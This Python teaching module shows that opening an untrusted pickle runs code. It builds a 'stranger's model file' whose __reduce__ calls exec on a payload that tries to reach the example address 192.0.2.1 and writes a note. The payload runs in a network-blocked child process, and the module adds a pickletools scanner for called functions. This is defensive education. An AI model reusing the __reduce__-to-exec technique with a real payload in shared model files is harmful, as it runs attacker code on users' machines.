"""Why a stranger's pickle must never be opened: ``pickle.load`` runs the code inside it.

A pickle is not a table of numbers but a little program that Python follows to rebuild an
object, and it may ask Python to call any function with any argument. ``pickle_demonstration``
makes a "stranger's model file" whose program writes a harmless note and tries to send
something over the network, then opens it with ``pickle.load`` in a separate Python process
whose network is blocked first (``bcc_teach.offline``). The note appears: the stranger's code
ran just by loading the file. The same file handed to ``deploy.load_model`` is refused unread.

    >>> from bcc_teach import deploy
    >>> demo = deploy.pickle_demonstration()
    >>> demo.code_ran, demo.calls
    (True, ('builtins.exec',))
"""

from __future__ import annotations

import pickle
import pickletools
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

from bcc_teach.deploy.contents import ModelFileError
from bcc_teach.deploy.files import load_model

MARKER = "note_from_the_stranger.txt"
#: What the stranger's code does (harmless): try the network, then leave a note in the folder.
PAYLOAD = f"""\
import pathlib, socket
note = ["Code from the stranger's file ran inside pickle.load."]
try:
    socket.create_connection(("192.0.2.1", 80), timeout=2).close()
    note.append("It sent something over the network.")
except OSError as refused:
    note.append(f"It tried to send something to 192.0.2.1 and was stopped ({{type(refused).__name__}}).")
pathlib.Path({MARKER!r}).write_text("\\n".join(note) + "\\n", encoding="utf-8")
"""  # noqa: E501
#: The child process: block the network first, then do what a trusting user would do.
_CHILD = """\
import sys
from bcc_teach import offline
offline.block_network()
import pickle
with open(sys.argv[1], "rb") as handle:
    model = pickle.load(handle)
print(f"pickle.load returned {type(model).__name__}")
"""


class _StrangersModel:
    """What the stranger pickles: an object that asks to be 'rebuilt' by running PAYLOAD."""

    def __reduce__(self):
        return exec, (PAYLOAD,)


def strangers_pickle() -> bytes:
    """The bytes of the stranger's "model file": a pickle whose loading runs ``PAYLOAD``.

    >>> strangers_pickle()[:1]
    b'\\x80'
    """
    return pickle.dumps(_StrangersModel(), protocol=4)


def calls_in_pickle(raw: bytes) -> tuple[str, ...]:
    """The functions a pickle asks Python to look up (and so may call), found by reading its
    instructions with ``pickletools``, without running any of them.

    >>> import collections
    >>> calls_in_pickle(pickle.dumps(collections.OrderedDict()))
    ('collections.OrderedDict',)
    """
    strings: list[str] = []
    found: list[str] = []
    for opcode, argument, _ in pickletools.genops(raw):
        if opcode.name in {"SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "BINUNICODE8"}:
            strings.append(argument)
        elif opcode.name == "STACK_GLOBAL" and len(strings) >= 2:
            found.append(f"{strings[-2]}.{strings[-1]}")
        elif opcode.name in {"GLOBAL", "INST"}:
            found.append(str(argument).replace(" ", "."))
    return tuple(dict.fromkeys(found))


@dataclass(frozen=True)
class PickleDemonstration:
    """What happened when the stranger's pickle was opened (see ``pickle_demonstration``).

    ``code_ran``: the stranger's note appeared while ``pickle.load`` ran; ``note``: what it
    says; ``calls``: the functions the file asks for (read without running it);
    ``loader_said``: what the child process printed; ``refused_by_load_model``: the message
    ``deploy.load_model`` gives for the same file.
    """

    code_ran: bool
    note: str
    calls: tuple[str, ...]
    loader_said: str
    refused_by_load_model: str

    def words(self) -> str:
        """What happened, in a few sentences (the same every time)."""
        if not self.code_ran:
            return f"The stranger's code did not run. The child process said: {self.loader_said}"
        return (
            f"The file asks Python to call {', '.join(self.calls)}. Opening it with pickle.load "
            f"ran the stranger's code, which left this note:\n{self.note}\n"
            f"The same file given to deploy.load_model: {self.refused_by_load_model}"
        )


def pickle_demonstration(timeout: float = 60) -> PickleDemonstration:
    """Open a stranger's pickle, safely, to show that loading it runs the stranger's code.

    Everything happens in a fresh temporary folder, in a separate Python process whose network
    is blocked before the file is opened; the stranger's code (``PAYLOAD``) only writes a note
    in that folder and tries (in vain) to reach ``192.0.2.1``, an address reserved for examples.

    >>> demo = pickle_demonstration()
    >>> print(demo.note)
    Code from the stranger's file ran inside pickle.load.
    It tried to send something to 192.0.2.1 and was stopped (NetworkBlocked).
    """
    raw = strangers_pickle()
    with tempfile.TemporaryDirectory(prefix="bcc_teach_pickle_") as folder:
        where = Path(folder)
        (where / "strangers_model.pkl").write_bytes(raw)
        (where / "strangers_model.skops").write_bytes(raw)  # the same bytes, renamed
        child = subprocess.run(
            [sys.executable, "-P", "-s", "-c", _CHILD, "strangers_model.pkl"],
            cwd=where, capture_output=True, text=True, timeout=timeout,
        )  # fmt: skip
        marker = where / MARKER
        note = marker.read_text(encoding="utf-8").strip() if marker.exists() else ""
        said = child.stdout.strip() or (child.stderr.strip().splitlines() or [""])[-1]
        try:
            load_model(where / "strangers_model.skops")
            refused = "it was loaded (this should never happen)"
        except ModelFileError as exc:
            refused = f"refused: {exc.problem}"
    return PickleDemonstration(
        code_ran=bool(note),
        note=note,
        calls=calls_in_pickle(raw),
        loader_said=said,
        refused_by_load_model=refused,
    )
